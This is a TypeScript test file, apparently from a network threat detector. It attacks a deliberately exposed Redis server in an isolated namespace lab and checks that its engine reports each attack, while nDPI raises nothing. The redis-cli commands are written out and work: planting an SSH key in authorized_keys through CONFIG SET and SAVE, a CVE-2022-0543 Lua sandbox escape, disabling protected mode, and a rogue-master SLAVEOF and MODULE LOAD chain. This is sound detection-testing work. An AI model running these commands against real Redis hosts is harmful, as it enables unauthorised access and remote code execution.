/**
 * Redis turned against its host, for real: Debian's redis-server (7.0, run as an exposed instance is: no password,
 * protected mode off, protected configs and the module command allowed) in a "node" namespace and redis-cli in a
 * "pod" namespace, one connection per attack: an SSH key written into `.ssh/authorized_keys` through the dump
 * (the file is really written, under the test's directory), a Lua sandbox escape (CVE-2022-0543, which Redis 7 refuses),
 * protected mode turned off, and the rogue-master chain (REPLICAOF, then MODULE LOAD). Captured with tcpdump as the
 * tap captures, read by our engine and, side by side, by ndpiReader.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ThreatFinding } from '#core/finding.ts';
import { inspectFile } from '#sidecar/engine/inspect-file.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { createKernelLab, type KernelLab } from '#test/helpers/kernel-lab.ts';
import { ndpiAvailable, ndpiReport, parseNdpiFlows } from '#test/helpers/ndpi-reader.ts';
import { netnsUnavailable, waitForListen } from '#test/helpers/netns.ts';

const unavailable =
  netnsUnavailable(['tcpdump', 'ss', 'redis-server', 'redis-cli']) ??
  (ndpiAvailable() ? undefined : 'ndpiReader is not installed (apt-get install libndpi-bin)');

const node = '10.47.0.1';
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMeshwardTestKeyNotReal attacker@evil';

describe.skipIf(unavailable !== undefined)(
  `Redis turned against its host, against nDPI${unavailable === undefined ? '' : ` (skipped: ${unavailable})`}`,
  () => {
    let lab: KernelLab | undefined;
    const dir = mkdtempSync(join(tmpdir(), 'meshward-redis-'));
    const ssh = join(dir, '.ssh');
    let found: ThreatFinding[] = [];
    let ndpiText = '';
    const replies: string[] = [];

    afterAll(() => {
      lab?.destroy();
      rmSync(dir, { recursive: true, force: true });
    });

    beforeAll(async () => {
      mkdirSync(ssh);
      lab = createKernelLab({ prefix: 'mwr', server: node, client: '10.47.0.2' });
      lab.serverNs.spawn('redis-server', [
        ...['--bind', node, '--port', '6379', '--dir', dir, '--save', '', '--appendonly', 'no'],
        ...['--protected-mode', 'no', '--enable-protected-configs', 'yes', '--enable-module-command', 'yes'],
      ]);
      await waitForListen(lab.serverNs, 6379);
      const pcap = join(dir, 'redis.pcap');
      const stop = await lab.capture(pcap, 'tcp', lab.serverDev);
      // Each call is one connection: the commands on stdin, in order.
      const cli = (...commands: string[]) =>
        replies.push(
          lab?.clientNs.exec('redis-cli', ['-h', node, '-p', '6379'], {
            input: `${commands.join('\n')}\n`,
          }) ?? '',
        );
      cli(
        `SET pwn "\\n\\n${key}\\n\\n"`,
        `CONFIG SET dir ${ssh}`,
        'CONFIG SET dbfilename authorized_keys',
        'SAVE',
      );
      cli(
        'EVAL "local io_l = package.loadlib(\\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\\", \\"luaopen_io\\"); return 1" 0',
      );
      cli('CONFIG SET protected-mode no', 'GET pwn');
      cli('SLAVEOF 10.47.0.2 21000', 'MODULE LOAD /tmp/meshward-no-such-exp.so', 'SLAVEOF NO ONE');
      await stop();
      const { findings } = await inspectFile(pcap, { observers: [createThreatRunner()] });
      found = findings.filter((f): f is ThreatFinding => f.type === 'threat' && f.threat === 'redis-abuse');
      ndpiText = ndpiReport(pcap);
    }, 120_000);

    const told = (text: string) => found.find((f) => f.evidence.includes(text));

    it('the server did what it was told: the SSH key is in authorized_keys; Redis 7 refused the Lua escape', () => {
      expect(readFileSync(join(ssh, 'authorized_keys'), 'latin1')).toContain(key);
      expect(replies[1]).toMatch(/ERR|attempt to call/i);
      expect(replies[3]).toMatch(/Error loading the extension|ERR/i);
    });

    it('reports the key written through the dump as critical, naming the file', () => {
      expect(told('wrote its dump to')).toMatchObject({ severity: 'critical', confidence: 1 });
      expect(told('wrote its dump to')?.evidence).toBe(
        `a client wrote its dump to ${ssh}/authorized_keys (SAVE)`,
      );
    });

    it('reports the Lua escape and the module loaded after a rogue master as critical, protected mode off as high', () => {
      expect(told('outside its sandbox')?.severity).toBe('critical');
      expect(told('loaded the module')?.evidence).toBe(
        'a client loaded the module /tmp/meshward-no-such-exp.so, after replicating from 10.47.0.2:21000 (MODULE LOAD)',
      );
      expect(told('protected-mode no')?.severity).toBe('high');
      expect(found).toHaveLength(4);
    });

    it('nDPI 4.2 names the four connections Redis only by the port, and raises nothing about them', () => {
      const flows = parseNdpiFlows(ndpiText).filter((f) => f.b === `${node}:6379`);
      console.log(
        `nDPI on the Redis attacks:\n${flows.map((f) => `${f.a} ${f.app} ${f.confidence} [${f.risks.join(', ')}]`).join('\n')}`,
      );
      expect(flows.map((f) => `${f.app} ${f.confidence}`)).toEqual(Array(4).fill('Redis Match by port'));
      expect(flows.flatMap((f) => f.risks)).toEqual([]);
    });
  },
);
